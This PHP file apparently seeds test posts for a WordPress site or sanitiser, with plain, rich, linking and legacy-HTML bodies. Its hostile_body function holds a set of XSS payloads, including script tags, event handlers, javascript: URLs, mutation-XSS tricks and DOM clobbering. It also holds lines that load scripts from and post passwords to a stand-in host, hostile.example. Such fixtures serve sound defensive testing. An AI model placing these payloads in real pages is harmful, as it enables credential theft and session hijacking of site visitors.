<?php
// The longer bodies of the seed. Whatever runs in a visitor's browser sets window.__pwned.

function plain_body() {
	return paragraphs(
		'We keep a notebook of small experiments: one change to one page, two weeks of figures, and a sentence about what we would do differently. Most entries are dull, and the dull ones have saved our clients more money than the clever ones ever did.',
		'The rule is that a change has to be explained in one breath. When nobody in the room can do that, the page is not the problem yet; the offer behind it is, and no colour of a button will help it along.',
	) . heading( 'What the figures say' ) . paragraphs(
		'Read them on a Monday, without coffee, and ask what you would have to see to change your mind. Then look.'
	);
}

function hostile_body() {
	return plain_body() . block( 'html', <<<'HTML'
<script>window.__pwned = 'script'</script>
<script src="https://hostile.example/steal.js"></script>
<img src="/nowhere.png" onerror="window.__pwned = 'onerror'">
<svg onload="window.__pwned = 'svg'"><animate onbegin="window.__pwned = 'animate'" attributeName="x" dur="1s"/></svg>
<p onclick="window.__pwned = 'onclick'" style="position:fixed;inset:0;z-index:9999;background:url(https://hostile.example/seen.gif)">Click anywhere</p>
<a href="javascript:window.__pwned='href'">One</a>
<a href="java&#10;script&colon;window.__pwned='href'">Two</a>
<a href="data:text/html,<script>opener.__pwned=1</script>" target="_blank">Three</a>
<iframe src="javascript:parent.__pwned='frame'"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>
<iframe src="https://hostile.example/frame"></iframe>
<object data="https://hostile.example/o"></object><embed src="https://hostile.example/e">
<form action="https://hostile.example/login" method="post"><input name="password" type="password" autofocus onfocus="window.__pwned='onfocus'"><button formaction="javascript:window.__pwned='formaction'">Sign in</button></form>
<base href="https://hostile.example/">
<meta http-equiv="refresh" content="0;url=https://hostile.example/">
<link rel="stylesheet" href="https://hostile.example/style.css">
<style>body { display: none } @import url(https://hostile.example/import.css);</style>
<p id="__proto__"><a name="getElementById" id="location">Names of the page's own things</a></p>
<template><script>window.__pwned = 'template'</script></template>
<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned='math'&gt;">
<video src="https://hostile.example/v.mp4" autoplay onplay="window.__pwned='onplay'" poster="https://hostile.example/poster.png"></video>
<details open ontoggle="window.__pwned='ontoggle'"><summary>More</summary></details>
<div><table><tr><td><b>Never closed
HTML );
}

function rich_body( $pictures, $video ) {
	$items = implode( '', array_map( fn( $picture ) => figure( $picture, 'A <em>caption</em>' ), $pictures ) );
	$code  = "function add(a, b) {\n\treturn a &lt; b &amp;&amp; a + b; // \"as it is\" -- kept\n}";
	return plain_body()
		. heading( 'A video' ) . "<!-- wp:embed {\"url\":\"$video\",\"type\":\"video\",\"providerNameSlug\":\"youtube\"} -->\n<figure class=\"wp-block-embed is-type-video is-provider-youtube\"><div class=\"wp-block-embed__wrapper\">\n$video\n</div></figure>\n<!-- /wp:embed -->\n\n"
		. heading( 'A gallery' ) . "<!-- wp:gallery {\"linkTo\":\"none\"} -->\n<figure class=\"wp-block-gallery has-nested-images columns-default\">$items</figure>\n<!-- /wp:gallery -->\n\n"
		. heading( 'Some code' ) . block( 'code', "<pre class=\"wp-block-code\"><code>$code</code></pre>" )
		. heading( 'A table', 3 ) . block( 'table', '<figure class="wp-block-table"><table><thead><tr><th>Page</th><th>Visits</th></tr></thead><tbody><tr><td>Home</td><td>1,204</td></tr><tr><td>Contact</td><td>88</td></tr></tbody></table><figcaption>One week</figcaption></figure>' )
		. heading( 'Some code' ) . paragraphs( 'A heading whose words were used before, for anchors to be told apart.' )
		. heading( 'Left over' ) . block( 'shortcode', '[booking-calendar id="7" view="month"]' )
		. block( 'quote', '<blockquote class="wp-block-quote"><p>Say it plainly.</p><cite>A client</cite></blockquote>' )
		. block( 'html', '<details><summary>Fine print</summary><p>Folded away.</p></details>' );
}

function linking_body() {
	return paragraphs(
		'From the root: <img src="/wp-content/uploads/2025/02/wide-one.jpg" alt="from the root">',
		'From above: <img src="../wp-content/uploads/2025/02/wide-two.jpg" alt="from above">',
		'From nowhere: <img src="/wp-content/uploads/2025/02/never-was.jpg" alt="never was">',
		'From the text: <img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" alt="one dot">',
		'From a stranger: <img src="https://stranger.example/p.png" srcset="https://stranger.example/p2.png 2x" alt="a stranger\'s">',
		'Links: <a href="/a-notebook-of-small-experiments/">from the root</a>, <a href="other">beside</a>, <a href="' . home_url( '/a-notebook-of-small-experiments/' ) . '">whole</a>, <a href="#below">below</a>, <a href="mailto:us@example.test">mail</a>, <a href="tel:+912240001234">telephone</a>, <a href="//stranger.example/x">no scheme</a>.'
	);
}

function old_body( $picture ) {
	$address = wp_get_attachment_image_url( $picture, 'medium' );
	return "Written long before there were blocks.\nThe second line of one paragraph.\n\n"
		. "[caption id=\"attachment_$picture\" align=\"alignleft\" width=\"300\"]<img src=\"$address\" width=\"300\" height=\"169\" /> Said below[/caption]\n\n"
		. "[gallery ids=\"$picture\" columns=\"1\"]\n\nAn <i>unclosed tag, and <font color=\"red\" size=\"6\">old HTML</font>.\n\n<center>In the middle</center>";
}
